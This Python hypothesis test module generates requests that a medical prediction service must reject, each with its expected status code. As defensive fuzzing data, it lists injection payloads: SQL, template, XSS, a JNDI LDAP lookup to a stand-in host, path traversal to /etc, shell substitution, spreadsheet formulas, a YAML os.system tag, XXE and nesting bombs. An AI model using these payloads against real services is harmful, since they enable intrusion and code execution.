"""Requests that a service of the data contract must refuse, each with the status of its refusal.

One strategy for each kind of refusal, and the named requests that no strategy would draw.

Texts hold ``WORD`` and numbers ``NUMBER`` wherever they can, so that a sender can search answers
and logs for what they must not repeat.
"""

import gzip
import json
from collections.abc import Iterable, Mapping
from http import HTTPStatus
from itertools import product
from typing import Final
from urllib.parse import unquote

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from pipeline.dataset.contract import Field, Kind
from pipeline.image.refusals import JSON, MAXIMUM_BODY, Headers, Probe
from pipeline.serving.patients import MAXIMUM_PATIENTS, REQUIRED
from pipeline.table.contract import FEATURES, FIELDS

WORD: Final = "quetzal"
NUMBER: Final = 7_310_942
DEPTH: Final = 100_000
# Python reads integers of up to 4,300.
DIGITS: Final = 5_000
PAGES: Final = ("/info", "/livez", "/readyz", "/healthz", "/metrics", "/openapi.json")
ROUTES: Final = {"/predict": "POST", **dict.fromkeys(PAGES, "GET")}
METHODS: Final = ("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


def _object(members: Mapping[str, str]) -> str:
    """Return members that are JSON as an object: JSON can say more than Python can."""
    return "{" + ", ".join(f"{json.dumps(name)}: {value}" for name, value in members.items()) + "}"


def _list(items: Iterable[str]) -> str:
    return f"[{', '.join(items)}]"


# Every field at its lower limit.
LOWEST: Final = {field.name: f"{field.low:g}" for field in FIELDS}
PATIENT: Final = _object(LOWEST)


def _patient(name: str, value: str = f"{NUMBER}") -> str:
    return _object({**LOWEST, name: value})


def _repeating(name: str) -> str:
    """Return a patient who has a field twice; the name is as it stands in JSON."""
    return f'{PATIENT[:-1]}, "{name}": {NUMBER}}}'


# What goes wrong where a service stores, shows, logs or evaluates a text.
ATTACKS: Final = (
    *(f"'; DROP TABLE patients; -- {WORD}", f"{{{{ 7 * 7 }}}} {WORD}", f"<script>{WORD}</script>"),
    *(f"${{jndi:ldap://{WORD}.example/a}}", f"%(message)s %n {{0}} {WORD}", f"../../../etc/{WORD}"),
    *(f"\x1b[31m{WORD}\x1b[0m", f"{WORD}\r\nmodel-version: x/0", f"{WORD}\0", f"\u202e{WORD}"),
    *(f"$(touch {WORD}); `{WORD}`", f"=cmd|' /C {WORD}'!A1", f"{WORD}\ud800", WORD * 3_000),
)
TEXTS: Final = st.sampled_from(ATTACKS) | st.text().map(lambda text: f"{text} {WORD}")
UNKNOWN_FIELDS: Final = (
    *("disease", "num", "trestbp", "Age", "SEX", "chol ", "\u0441hol", "\uff41\uff47\uff45", ""),
    *("__proto__", "constructor", "__class__", "$where", "$ref", "age.value", "chol[]", "/age"),
)
NO_NUMBERS: Final = (
    *("true", "false", '""', f'"{NUMBER}"', f"[{NUMBER}]", f'{{"$gt": {NUMBER}}}'),
    *("1e999", "-1e999", f"{NUMBER}", f"-{NUMBER}", f"{NUMBER}".ljust(400, "0")),
)


def _wrong_values(field: Field) -> SearchStrategy[str]:
    """Draw JSON that a field must not hold."""
    below = st.floats(max_value=field.low, exclude_max=True, allow_infinity=False)
    above = st.floats(min_value=field.high, exclude_min=True, allow_infinity=False)
    fractions = st.floats(field.low, field.high).filter(lambda value: value % 1 > 0)
    whole = field.codes or field.kind is Kind.COUNT
    gaps = {*range(int(field.low), int(field.high))} - {*field.codes} if field.codes else ()
    return st.one_of(
        st.sampled_from([*NO_NUMBERS, *map(str, gaps), *([] if field.nullable else ["null"])]),
        TEXTS.map(json.dumps),
        (below | above | fractions if whole else below | above).map(json.dumps),
    )


def _wrong_value(field: Field) -> SearchStrategy[str]:
    """Draw a patient with one value that is wrong."""
    return _wrong_values(field).map(lambda value: _patient(field.name, value))


def _wrong_fields() -> SearchStrategy[str]:
    """Draw a patient with one field that is missing or does not exist."""
    left_out = st.sampled_from(REQUIRED).map(
        lambda left: _object({name: value for name, value in LOWEST.items() if name != left})
    )
    return left_out | (st.sampled_from(UNKNOWN_FIELDS) | TEXTS).map(_patient)


def _no_patients() -> SearchStrategy[str]:
    """Draw JSON that holds something else than patients, or something else beside one."""
    scalars = st.sampled_from(["null", "{}", "[]", *NO_NUMBERS, json.dumps(PATIENT)])
    return st.recursive(
        scalars | TEXTS.map(json.dumps),
        lambda inner: (
            st.lists(inner, min_size=1).map(lambda items: _list([PATIENT, *items]))
            | inner.map(lambda value: f'{{"instances": [{PATIENT}, {value}]}}')
        ),
    )


NO_VALUES: Final = (
    *("NaN", "Infinity", "-Infinity", "None", "True", "undefined", "[NaN]", "2,3", "1.", "1e"),
    *(f"{NUMBER:#x}", f"0{NUMBER}", f"+{NUMBER}", f"{NUMBER:_}", f".{NUMBER}", "\u0666\u0663"),
    f'{{"{WORD}": 1, "{WORD}": 2}}',
)
MISWRITTEN: Final = ("\"'", '" ', ", ", ": ", ":=", "}]")


def _no_json() -> SearchStrategy[str]:
    """Draw what is almost JSON: without its end, with more around it, miswritten, ambiguous."""
    controls = st.characters(max_codepoint=31)
    return st.one_of(
        st.integers(0, len(PATIENT) - 1).map(lambda end: PATIENT[:end]),
        st.tuples(st.sampled_from(["\0", f" {WORD}", f" // {WORD}", "}", ",", PATIENT])).map(
            lambda more: f"{PATIENT}{more[0]}"
        ),
        st.sampled_from([f"/* {WORD} */", f"# {WORD}\n", f"{WORD}(", ")]}',\n"]).map(
            lambda before: f"{before}{PATIENT}"
        ),
        st.sampled_from(MISWRITTEN).map(lambda pair: PATIENT.replace(pair[0], pair[1].strip())),
        st.sampled_from(NO_VALUES).map(lambda value: _patient("oldpeak", value)),
        (controls | st.sampled_from(["\\x41", "\\u12"])).map(
            lambda text: f'{{"age": "{WORD}{text}"}}'
        ),
        st.sampled_from([*FEATURES, "\\u0061ge"]).map(_repeating),
    )


def _no_utf_8() -> SearchStrategy[bytes]:
    """Draw a patient in another encoding, and bytes that are no text."""
    encodings = st.sampled_from(["utf-8-sig", "utf-16", "utf-16-le", "utf-32", "utf-32-be"])
    broken = st.sampled_from([b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf0\x9f"])
    texts = broken.map(lambda text: b'{"age": "%s"}' % text)
    return encodings.map(PATIENT.encode) | texts | st.binary().map(lambda more: b"\xff" + more)


TOKENS: Final = st.from_regex(r"[a-z][a-z0-9.+-]{0,20}", fullmatch=True)
MEDIA_TYPES: Final = (
    *("", "*/*", "json", WORD, "text/json", "application/jsonp", "application/problem+json"),
    *("application/json, text/plain", "application/json; charset=latin-1"),
    *(f"application/json; {WORD}={NUMBER}", f"multipart/form-data; boundary={WORD}"),
)


def _media_types() -> SearchStrategy[Headers]:
    """Draw headers that say that a body is something else than JSON in UTF-8, or say nothing."""
    others = st.tuples(TOKENS, TOKENS).map("/".join).filter(lambda kind: kind != JSON[0][1])
    charsets = TOKENS.filter(lambda name: name != "utf-8")
    kinds = (
        st.sampled_from(MEDIA_TYPES) | others | charsets.map("application/json; charset={}".format)
    )
    encodings = st.sampled_from(["gzip, identity", WORD]) | TOKENS
    return (
        st.just(())
        | kinds.map(lambda kind: (("content-type", kind),))
        | encodings.filter(lambda name: name != "identity").map(
            lambda name: (*JSON, ("content-encoding", name))
        )
    )


# Almost a route, what others have, out of the folder, and for programs that log or evaluate a path.
PATHS: Final = (
    *("/", "//", "/*", f"/{WORD}", f"/?{WORD}={NUMBER}", "/docs", "/.env", "/model/model.onnx"),
    *(f"/../../../../etc/{WORD}", f"/..%2f..%2fetc%2f{WORD}", f"/%2e%2e/%2e%2e/etc/{WORD}"),
    *(f"/..%5c..%5c{WORD}", f"/info/../../etc/{WORD}", f"/{WORD}/../info", f"/file:///etc/{WORD}"),
    *(f"/%0d%0amodel-version:%20{WORD}", f"/%1b%5b31m{WORD}", f"/%00{WORD}", f"/%ff%fe{WORD}"),
    *(f"/%{WORD}", f"/${{jndi:ldap://{WORD}.example/a}}", f"/{WORD * 1_000}", f"/{'a/' * 2_000}"),
)
ALMOST_A_ROUTE: Final = (
    "{}/",
    "/{}",
    "/.{}",
    "{}{}",
    "{}.json",
    "{};v=1",
    "{}%20",
    "{}%00",
    "{}%3Fa",
)


def _paths() -> SearchStrategy[str]:
    """Draw paths that are none of the service's."""
    almost = st.tuples(st.sampled_from(ALMOST_A_ROUTE), st.sampled_from([*ROUTES])).map(
        lambda pair: pair[0].format(pair[1], pair[1])
    )
    drawn = st.text(st.characters(min_codepoint=33, max_codepoint=126)).map("/{}".format)
    unknown = drawn.filter(lambda path: unquote(path).partition("?")[0] not in ROUTES)
    return st.sampled_from(PATHS) | almost | almost.map(str.upper) | unknown


def _bodies(drawn: SearchStrategy[str] | SearchStrategy[bytes], status: int) -> SearchStrategy:
    return st.builds(_body, st.just("drawn"), drawn, st.just(status))


def _body(name: str, body: str | bytes, status: int) -> Probe:
    content = body.encode() if isinstance(body, str) else body
    return Probe(name=name, body=content, status=HTTPStatus(status))


def _asked(method: str, path: str, status: int) -> Probe:
    body = b"" if method in {"GET", "TRACE"} else PATIENT.encode()
    return Probe(name="drawn", method=method, path=path, body=body, status=HTTPStatus(status))


DRAWN: Final = {
    **{field.name: _bodies(_wrong_value(field), 422) for field in FIELDS},
    "the fields": _bodies(_wrong_fields(), 422),
    "patients": _bodies(_no_patients(), 422),
    "JSON": _bodies(_no_json(), 400),
    "UTF-8": _bodies(_no_utf_8(), 400),
    "a media type": _media_types().map(
        lambda headers: Probe(name="drawn", headers=headers, body=PATIENT.encode(), status=415)
    ),
    "a method": st.sampled_from(
        [pair for pair in product(METHODS, ROUTES) if ROUTES[pair[1]] != pair[0]]
    ).map(lambda pair: _asked(*pair, 405)),
    "a path": st.tuples(st.sampled_from(["GET", "POST"]), _paths()).map(
        lambda pair: _asked(*pair, 404)
    ),
}
# Too large, too deep or too odd to be drawn.
NAMED: Final = (
    _body("one patient too many", _list([PATIENT] * (MAXIMUM_PATIENTS + 1)), 422),
    _body("as many numbers as patients", _list([f"{NUMBER}"] * MAXIMUM_PATIENTS), 422),
    _body("100,000 numbers", _list([f"{NUMBER}"] * 100_000), 422),
    _body(
        "the last of many patients is wrong",
        _list([*[PATIENT] * (MAXIMUM_PATIENTS - 1), _patient("age")]),
        422,
    ),
    _body(
        "10,000 unknown fields", _object({f"field_{n}": f"{NUMBER}" for n in range(10_000)}), 422
    ),
    _body("100 lists in each other", "[" * 100 + f"{NUMBER}" + "]" * 100, 422),
    _body("a number too small to be told from 0", _patient("age", f"{NUMBER}e-400"), 422),
    _body("an integer of 5,000 digits", _patient("age", f"{NUMBER}".ljust(DIGITS, "0")), 400),
    _body("100,000 lists", "[" * DEPTH + "]" * DEPTH, 400),
    _body("100,000 lists that do not end", "[" * DEPTH, 400),
    _body("100,000 objects", '{"a":' * DEPTH + f"{NUMBER}" + "}" * DEPTH, 400),
    _body("a name twice in the second patient", _list([PATIENT, _repeating("age")]), 400),
    _body("a compressed patient", gzip.compress(PATIENT.encode(), mtime=0), 400),
    _body("a pickle", b"\x80\x04\x8c\x07quetzal\x94.", 400),
    _body("XML", f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///{WORD}">]><a>&b;</a>', 400),
    _body("YAML", f"age: !!python/object/apply:os.system ['{WORD}']", 400),
    _body("1 MiB and 1 byte with a patient", PATIENT.ljust(MAXIMUM_BODY + 1), 413),
    _body("more than 1 MiB of patients", _list([PATIENT] * 10_000), 413),
    _body("more than 1 MiB of text", f'"{WORD * 150_000}"', 413),
    _body("2 MiB of open lists", "[" * 2 * MAXIMUM_BODY, 413),
)
